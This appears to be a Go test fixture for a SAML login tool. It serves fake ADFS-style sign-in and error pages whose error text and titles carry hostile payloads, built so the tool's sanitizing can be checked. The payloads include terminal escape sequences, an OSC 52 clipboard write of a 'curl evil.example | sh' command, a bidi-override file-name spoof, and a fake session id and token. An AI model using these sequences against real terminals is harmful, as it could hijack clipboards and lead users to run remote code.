package idptest

import (
	"encoding/base64"
	"html"
	"net/http"
	"strings"
	"sync"
)

// Parts of HostileErrorText, each something a terminal would act on or a
// reader should not see. None of them may reach what samlogin prints.
var (
	// HostileClear clears the screen and moves the cursor home (CSI).
	HostileClear = "\x1b[2J\x1b[H"
	// HostileClipboard writes "curl evil.example | sh" to the clipboard of
	// a terminal that honours OSC 52.
	HostileClipboard = "\x1b]52;c;" + base64.StdEncoding.EncodeToString([]byte("curl evil.example | sh")) + "\x07"
	// HostileTitle sets the terminal's window title (OSC 0, ended by ST).
	HostileTitle = "\x1b]0;owned\x1b\\"
	// HostileBidi reverses the text after it (RIGHT-TO-LEFT OVERRIDE).
	HostileBidi = "\u202egnp.exe\u202c"
	// HostileSession is a session id the page quotes as JSON.
	HostileSession = `{"sessionId": "s3ss10n-ID-value-7f3a"}`
	// HostileToken is a bearer-like token in the text.
	HostileToken = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbGljZSJ9.c2lnbmF0dXJlMTIz"
)

// HostileLeaks are the substrings of HostileErrorText that must not
// appear in anything printed: the escape and control characters, the
// payloads, the session id and the token.
var HostileLeaks = []string{
	"\x1b", "\x07", "\u202e", "\u202c", "\r",
	base64.StdEncoding.EncodeToString([]byte("curl evil.example | sh")),
	"s3ss10n-ID-value-7f3a", HostileToken, "owned",
}

// HostileHead is the readable start of HostileErrorText: what a clean
// message begins with.
const HostileHead = "Your password is incorrect."

// hostileText is built once: 3 MB.
var hostileText = sync.OnceValue(func() string {
	var b strings.Builder
	b.WriteString(HostileHead + HostileClear + HostileClipboard + " Try\r\nagain" + HostileTitle +
		" or call " + HostileBidi + " the help desk. " + HostileSession + " " + HostileToken + " ")
	for b.Len() < 3<<20 {
		b.WriteString("error details follow on this one very long line ")
	}
	return b.String()
})

// HostileErrorText is an IdP's error message built to harm a terminal and
// a ticket: HostileHead, then escape sequences (clear screen, an OSC 52
// clipboard write, a window title), a bidi override, a CR LF, a session
// id, a token, and 3 MB more on one line.
func HostileErrorText() string { return hostileText() }

// hostilePageTitle is a <title> with escape sequences in it.
const hostilePageTitle = "Sign In\x1b[2J\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\u202eniagA"

// HostileLoginHandler serves, on GET, a sign-in page in the shape of ADFS
// 2012 R2+ (form#loginForm with UserName, Password and AuthMethod, posting
// to the same URL), which the ADFS and the form drivers both fill; on POST,
// the same page with HostileErrorText in #errorText, which both read as a
// rejected password. The page title carries escape sequences too. Posts
// counts the POSTs.
type HostileLoginHandler struct {
	mu    sync.Mutex
	posts int
}

// Posts is how many times a form was posted.
func (h *HostileLoginHandler) Posts() int {
	h.mu.Lock()
	defer h.mu.Unlock()
	return h.posts
}

func (h *HostileLoginHandler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	msg := ""
	if r.Method == http.MethodPost {
		h.mu.Lock()
		h.posts++
		h.mu.Unlock()
		msg = HostileErrorText()
	}
	act := html.EscapeString(r.URL.RequestURI())
	writeHTML(w, http.StatusOK, `<!DOCTYPE html><html><head><title>`+html.EscapeString(hostilePageTitle)+`</title></head><body>
<form id="loginForm" method="post" action="`+act+`">
<label id="errorText" class="error" role="alert">`+html.EscapeString(msg)+`</label>
<input id="userNameInput" name="UserName" type="email" value="">
<input id="passwordInput" name="Password" type="password" value="">
<input id="optionForms" type="hidden" name="AuthMethod" value="FormsAuthentication">
<span id="submitButton" class="submit">Sign in</span>
</form></body></html>`)
}

// HostileErrorPageHandler serves, for every request, an ADFS-shaped error
// page without a form (#errorArea, #errorMessage holding
// HostileErrorText), with escape sequences in its title: what the first
// request of a sign-in may get.
func HostileErrorPageHandler() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		writeHTML(w, http.StatusOK, `<!DOCTYPE html><html><head><title>`+html.EscapeString(hostilePageTitle)+`</title></head><body>
<div id="errorArea"><div id="openingMessage">An error occurred</div>
<div id="errorMessage">`+html.EscapeString(HostileErrorText())+`</div></div></body></html>`)
	})
}
